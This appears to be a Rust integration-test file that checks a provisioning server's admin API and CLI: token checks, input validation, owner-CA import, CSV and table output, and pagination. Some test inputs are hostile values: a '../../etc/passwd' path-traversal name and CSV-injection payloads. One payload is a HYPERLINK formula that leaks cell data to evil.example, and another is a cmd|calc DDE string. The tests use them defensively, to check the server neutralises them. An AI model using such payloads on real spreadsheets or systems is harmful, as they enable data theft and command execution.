//! The admin API and the inventory commands against the real server: token required, bad input
//! refused with the reason and nothing changed, imported owners checked.

use std::path::Path;

use serde_json::Value;
use ztp_tests::{Server, curl, success, temp_dir, transcript};

fn fails_with(output: std::process::Output, needle: &str) {
    assert!(
        !output.status.success(),
        "expected a failure: {}",
        transcript(&output)
    );
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(
        stderr.contains(needle),
        "expected {needle:?} in: {}",
        transcript(&output)
    );
}

#[test]
fn the_admin_api_wants_its_token_and_says_why_it_refuses() {
    let dir = temp_dir();
    let server = Server::start(dir.path());

    // Health needs no token; everything else does, and a wrong one is refused.
    let health = curl([format!("{}/healthz", server.admin_url)]);
    assert_eq!(String::from_utf8_lossy(&health.stdout), "ok\n");
    let ready = curl([format!("{}/readyz", server.admin_url)]);
    assert_eq!(String::from_utf8_lossy(&ready.stdout), "ready\n");
    let anonymous = curl([
        "-w",
        "%{http_code}",
        "-o",
        "/dev/null",
        &format!("{}/api/v1/devices", server.admin_url),
    ]);
    assert_eq!(String::from_utf8_lossy(&anonymous.stdout), "401");
    fails_with(
        server.admin(["customer", "list", "--token", "wrong"]),
        "401",
    );

    // Hostile or malformed input: a clear reason, nothing stored.
    fails_with(
        server.admin(["device", "add", "../../etc/passwd", "--model", "m"]),
        "forbidden character",
    );
    fails_with(
        server.admin([
            "device",
            "add",
            "SN-0009",
            "--model",
            "m",
            "--customer",
            "ghost",
        ]),
        "ghost",
    );
    fails_with(
        server.admin(["device", "add", "SN-0009", "--model", "m", "--pin", "abc"]),
        "64 hex digits",
    );
    fails_with(server.admin(["customer", "add", "a/b"]), "must be 1 to 64");
    fails_with(
        server.admin([
            "target",
            "add",
            "example-customer",
            "t",
            "--address",
            "bad host!",
        ]),
        "address",
    );
    let raw = curl([
        "-w",
        "\n%{http_code}",
        "-H",
        &format!(
            "Authorization: Bearer {}",
            std::fs::read_to_string(dir.path().join("admin-token"))
                .unwrap()
                .trim()
        ),
        "-H",
        "Content-Type: application/json",
        "--data-binary",
        "{\"serial\": \"SN-0009\", \"model\": ",
        &format!("{}/api/v1/devices", server.admin_url),
    ]);
    let text = String::from_utf8_lossy(&raw.stdout);
    assert!(
        text.ends_with("\n400") && text.contains("request body"),
        "{text}"
    );
    let devices: Vec<Value> =
        serde_json::from_str(&success(server.admin(["device", "list"]))).unwrap();
    assert_eq!(devices.len(), 3, "only the sample devices: {devices:#?}");

    // A customer still owning devices cannot be deleted; a target a rule uses cannot be removed.
    fails_with(
        server.admin(["customer", "remove", "example-customer"]),
        "device(s) belong to it",
    );
    let rules = dir.path().join("rules.json");
    std::fs::write(&rules, r#"[{"name": "r", "redirect": ["nms"]}]"#).unwrap();
    success(server.admin([
        "rules".as_ref(),
        "set".as_ref(),
        "example-customer".as_ref(),
        rules.as_os_str(),
    ]));
    fails_with(
        server.admin(["target", "remove", "example-customer", "nms"]),
        "rule \"r\"",
    );
}

#[test]
fn an_imported_owner_must_be_consistent() {
    let dir = temp_dir();
    let server = Server::start(dir.path());
    let pki = server.pki();
    let owner = pki.join("customers/example-customer");
    let arg = |p: &Path| p.to_str().unwrap().to_owned();

    // The sample customer's signer under another customer's CA: refused.
    let other = temp_dir();
    success(ztp_tests::ztp([
        Path::new("pki"),
        Path::new("init"),
        other.path(),
    ]));
    fails_with(
        server.admin([
            "customer",
            "add",
            "imported",
            "--owner-ca",
            &arg(&other.path().join("customers/example-customer/owner-ca.pem")),
            "--signer-cert",
            &arg(&owner.join("owner-signing.pem")),
            "--signer-key",
            &arg(&owner.join("owner-signing.key")),
        ]),
        "does not lead to the owner CA",
    );
    // Consistent material is imported, and the owner CA is given out again unchanged.
    success(server.admin([
        "customer",
        "add",
        "imported",
        "--profile",
        "strict",
        "--owner-ca",
        &arg(&owner.join("owner-ca.pem")),
        "--signer-cert",
        &arg(&owner.join("owner-signing.pem")),
        "--signer-key",
        &arg(&owner.join("owner-signing.key")),
    ]));
    let shown: Value =
        serde_json::from_str(&success(server.admin(["customer", "show", "imported"]))).unwrap();
    assert_eq!(shown["profile"], "strict");
    assert!(
        shown.get("signer_key_pem").is_none(),
        "the key never leaves the server"
    );
    let ca = success(server.admin(["customer", "owner-ca", "imported"]));
    assert_eq!(
        ca,
        std::fs::read_to_string(owner.join("owner-ca.pem")).unwrap()
    );
}

#[test]
fn answers_print_as_json_table_or_csv_and_the_cli_reads_its_own_configuration() {
    let dir = temp_dir();
    let server = Server::start(dir.path());
    let csv = success(server.admin(["--output", "csv", "device", "list"]));
    let lines: Vec<&str> = csv.lines().collect();
    assert!(lines[0].starts_with("serial,model,customer"), "{csv}");
    assert_eq!(
        lines.len(),
        4,
        "a header and the three sample devices: {csv}"
    );
    assert!(
        lines[1].starts_with("SN-0001,uCPE-100,example-customer,"),
        "{csv}"
    );
    let table = success(server.admin(["device", "list", "--output", "table"]));
    assert!(table.starts_with("serial "), "{table}");
    assert!(
        table.lines().nth(1).unwrap().starts_with("SN-0001 "),
        "{table}"
    );

    // No flags, no environment: the configuration file says where and with which token.
    let config = dir.path().join("cli.toml");
    std::fs::write(
        &config,
        format!(
            "admin_url = \"{}\"\ntoken_file = \"{}\"\n",
            server.admin_url,
            dir.path().join("admin-token").display()
        ),
    )
    .unwrap();
    let output = std::process::Command::new(ztp_tests::ztp_bin())
        .args(["customer", "list"])
        .env_remove("ZTP_ADMIN_URL")
        .env_remove("ZTP_ADMIN_TOKEN")
        .env_remove("ZTP_DATA_DIR")
        .env("ZTP_CLI_CONFIG", &config)
        .output()
        .unwrap();
    assert!(success(output).contains("example-customer"));
    std::fs::write(&config, "admin_link = \"x\"\n").unwrap();
    let output = std::process::Command::new(ztp_tests::ztp_bin())
        .args(["customer", "list"])
        .env("ZTP_CLI_CONFIG", &config)
        .output()
        .unwrap();
    assert!(!output.status.success());
    assert!(
        String::from_utf8_lossy(&output.stderr).contains("admin_link"),
        "an unknown key is named"
    );
}

#[test]
fn csv_output_shows_values_a_spreadsheet_would_evaluate_as_text() {
    let dir = temp_dir();
    let server = Server::start(dir.path());
    let user = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"open\")";
    let directory = "@SUM(1+1)*cmd|' /C calc'!A0";
    let password = dir.path().join("password");
    std::fs::write(&password, "s3cret").unwrap();
    success(server.admin([
        "nms",
        "add",
        "example-customer",
        "main",
        "--host",
        "nms.example.net",
        "--user",
        user,
        "--directory",
        directory,
        "--pin",
        "SHA256:uNiVztksCsDhcc0u9e8BujQXVUpKZIDTMczCvj3tD2s",
        "--password-file",
        password.to_str().unwrap(),
    ]));

    let csv = success(server.admin(["--output", "csv", "nms", "list", "example-customer"]));
    let cells = super::csv_cells(&csv);
    let column = |name: &str| cells[0].iter().position(|c| c == name).unwrap();
    assert_eq!(cells[1][column("username")], format!("'{user}"), "{csv}");
    assert_eq!(
        cells[1][column("directory")],
        format!("'{directory}"),
        "{csv}"
    );
    assert_eq!(super::formula_cells(&csv), Vec::<String>::new(), "{csv}");
}

#[test]
fn lists_come_page_by_page() {
    let dir = temp_dir();
    let server = Server::start(dir.path());
    for name in ["acme", "beta", "gamma"] {
        success(server.admin(["customer", "add", name]));
    }
    let names = |args: &[&str]| -> Vec<String> {
        let mut all = vec!["customer", "list"];
        all.extend_from_slice(args);
        serde_json::from_str::<Vec<Value>>(&success(server.admin(all)))
            .unwrap()
            .iter()
            .map(|c| c["name"].as_str().unwrap().to_owned())
            .collect()
    };
    assert_eq!(names(&[]), ["acme", "beta", "example-customer", "gamma"]);
    assert_eq!(names(&["--limit", "2"]), ["acme", "beta"]);
    assert_eq!(
        names(&["--after", "beta", "--limit", "2"]),
        ["example-customer", "gamma"]
    );
    fails_with(
        server.admin(["customer", "list", "--limit", "0"]),
        "limit must be 1 to 1000",
    );
}
